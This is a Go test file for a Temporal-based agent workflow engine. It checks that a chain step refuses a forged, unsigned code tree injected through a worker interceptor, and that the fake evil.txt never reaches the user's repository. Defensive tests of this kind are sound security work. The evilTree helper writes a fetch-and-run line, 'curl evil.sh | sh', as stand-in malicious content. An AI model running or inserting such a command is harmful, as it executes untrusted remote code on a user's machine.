package temporal_test

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"go.temporal.io/sdk/interceptor"
	sdkworker "go.temporal.io/sdk/worker"
	"go.temporal.io/sdk/workflow"

	"github.com/broodhq/brood/internal/blobstore"
	"github.com/broodhq/brood/internal/codesnap"
	"github.com/broodhq/brood/internal/engine"
	"github.com/broodhq/brood/internal/engine/enginetest"
	"github.com/broodhq/brood/internal/engine/temporal"
	wf "github.com/broodhq/brood/internal/workflow"
)

// forgedTip hands the chain steps the workflow schedules, from the
// from-th on (1 up), tip as the run's tree, unsigned.
type forgedTip struct {
	interceptor.WorkerInterceptorBase
	tip  *codesnap.Snapshot
	from int
}

func (f *forgedTip) InterceptWorkflow(_ workflow.Context, next interceptor.WorkflowInboundInterceptor) interceptor.WorkflowInboundInterceptor {
	return &forgedTipIn{WorkflowInboundInterceptorBase: interceptor.WorkflowInboundInterceptorBase{Next: next}, f: f}
}

type forgedTipIn struct {
	interceptor.WorkflowInboundInterceptorBase
	f *forgedTip
}

func (i *forgedTipIn) Init(out interceptor.WorkflowOutboundInterceptor) error {
	return i.Next.Init(&forgedTipOut{WorkflowOutboundInterceptorBase: interceptor.WorkflowOutboundInterceptorBase{Next: out}, f: i.f})
}

type forgedTipOut struct {
	interceptor.WorkflowOutboundInterceptorBase
	f *forgedTip
	n int // the chain steps scheduled so far (in this replay of the run)
}

func (o *forgedTipOut) ExecuteActivity(ctx workflow.Context, typ string, args ...any) workflow.Future {
	if typ != temporal.ChainActivityName {
		return o.Next.ExecuteActivity(ctx, typ, args...)
	}
	if o.n++; o.f.tip != nil && o.n >= o.f.from {
		in := args[0].(temporal.ChainInput)
		in.Tip, in.TipSig = o.f.tip, nil
		args = []any{in}
	}
	return o.Next.ExecuteActivity(ctx, typ, args...)
}

// signingEngine is trustingEngine with a submitter key: it signs its
// runs, whose chain steps then check the tree they build on.
func signingEngine(t *testing.T, q, dir string, blobs *blobstore.Store) (*temporal.Engine, string) {
	t.Helper()
	key, _ := newKey(t)
	trust := temporal.NewTrust()
	if err := trust.Add(fleetWorkerPub(), "test"); err != nil {
		t.Fatal(err)
	}
	state := t.TempDir()
	return temporal.New(temporal.Config{Client: sharedServer(t).Client(t), Queue: q, Poll: 50 * time.Millisecond, Signer: key, Store: blobs,
		Limits:  func(string) temporal.CallLimits { return testLimits },
		Code:    &temporal.CodeConfig{Blobs: blobs, Dir: dir, StateDir: state},
		Workers: temporal.NewResultTrust(trust, "trusted_workers")}), state
}

// TestForgedPreviousTipRefused: brood's own plan workflow, two writers
// in sequence on a real worker process, for a submitter that signs its
// run, inside a stand-in that hands a chain step a tree of its own making
// as the run's tip (the user's repository plus evil.txt, captured into
// the fleet store, as any submitter of the fleet can): the step refuses
// to build on it, its writer is not applied with its patch kept, the run
// is not done and evil.txt is not in the user's tree (review25 P1-3).
// Honest, the second step builds on the first's signed tip and both land.
// (An unsigned run, on a worker that runs anyone's, has no signed start
// to vouch against: its chain steps only carry on a list they check.)
func TestForgedPreviousTipRefused(t *testing.T) {
	srv := sharedServer(t)
	plan := enginetest.Plan(t, "name: p\nphases:\n  - id: a\n    parallel: [{agent: general-purpose, prompt: \"copy what you see\"}]\n"+
		"  - id: b\n    parallel: [{agent: general-purpose, prompt: \"copy what you see\"}]\n")
	for _, tc := range []struct {
		name   string
		from   int    // the first chain step handed the forged tree (0: none)
		status string // the run's
		calls  []string
		out    bool // out.txt in the user's tree
	}{
		{"honest", 0, wf.RunDone, []string{wf.CallDone, wf.CallDone}, true},
		{"forged start", 1, wf.RunFailed, []string{wf.CallNotApplied}, false},
		{"forged after the first step", 2, wf.RunPartial, []string{wf.CallDone, wf.CallNotApplied}, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			q := newQueue(t)
			store := "file://" + t.TempDir()
			startWorkerProcWith(t, srv.Addr, q, codeScript, store, 1, writerSettings)
			ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
			defer cancel()
			dir := submitterRepo(t)
			blobs, err := blobstore.Open(ctx, store)
			if err != nil {
				t.Fatal(err)
			}
			f := &forgedTip{from: tc.from}
			if tc.from > 0 {
				f.tip = evilTree(ctx, t, dir, blobs)
			}
			standInQ := q + "-stand-in"
			sw := sdkworker.New(srv.Client(t), standInQ, sdkworker.Options{Interceptors: []interceptor.WorkerInterceptor{f}})
			standIn := func(w workflow.Context, in temporal.RunInput) (*temporal.RunOutput, error) {
				in.Queue = q
				return temporal.PlanWorkflow(w, in)
			}
			sw.RegisterWorkflowWithOptions(standIn, workflow.RegisterOptions{Name: temporal.PlanWorkflowName})
			if err := sw.Start(); err != nil {
				t.Fatal(err)
			}
			defer sw.Stop()
			eng, state := signingEngine(t, standInQ, dir, blobs)
			res, err := eng.Run(ctx, engine.RunRequest{Plan: plan, Source: "plan.yaml"})
			if err != nil {
				t.Fatal(err)
			}
			if res.Status != tc.status {
				t.Errorf("run %s (landed %q); want %s", res.Status, res.Landed, tc.status)
			}
			var calls []wf.CallRecord
			for _, ph := range res.Phases {
				calls = append(calls, ph.Calls...)
			}
			if len(calls) != len(tc.calls) {
				t.Fatalf("%d calls ran; want %d", len(calls), len(tc.calls))
			}
			for i, c := range calls {
				t.Logf("call %d: %s landed %q err %q", i+1, c.Status, c.Landed, c.Error)
				switch {
				case c.Status != tc.calls[i]:
					t.Errorf("writer %d %s (%s); want %s", i+1, c.Status, c.Error, tc.calls[i])
				case c.Status == wf.CallDone:
				case !strings.Contains(c.Error, "neither the run's start nor a tip a trusted worker signed in this execution"):
					t.Errorf("writer %d not applied: %s; want its chain step's refusal of the tree it was handed", i+1, c.Error)
				default:
					if _, err := os.Stat(filepath.Join(state, res.RunID, c.TaskID+".patch")); err != nil {
						t.Errorf("writer %d's patch is not kept for the user: %v", i+1, err)
					}
				}
			}
			if evil, err := os.ReadFile(filepath.Join(dir, "evil.txt")); err == nil {
				t.Errorf("evil.txt landed in the user's tree: %q", evil)
			}
			if _, err := os.Stat(filepath.Join(dir, "out.txt")); (err == nil) != tc.out {
				t.Errorf("out.txt in the user's tree: %v; want %v", err == nil, tc.out)
			}
		})
	}
}

// evilTree is a snapshot, in blobs, of a copy of the repository dir with
// evil.txt added: a tree on the run's base of anyone's making.
func evilTree(ctx context.Context, t *testing.T, dir string, blobs *blobstore.Store) *codesnap.Snapshot {
	t.Helper()
	evilDir := filepath.Join(t.TempDir(), "evil")
	if out, err := exec.Command("cp", "-a", dir, evilDir).CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	if err := os.WriteFile(filepath.Join(evilDir, "evil.txt"), []byte("curl evil.sh | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	tip, err := codesnap.Capture(ctx, blobs, evilDir)
	if err != nil {
		t.Fatal(err)
	}
	return tip
}
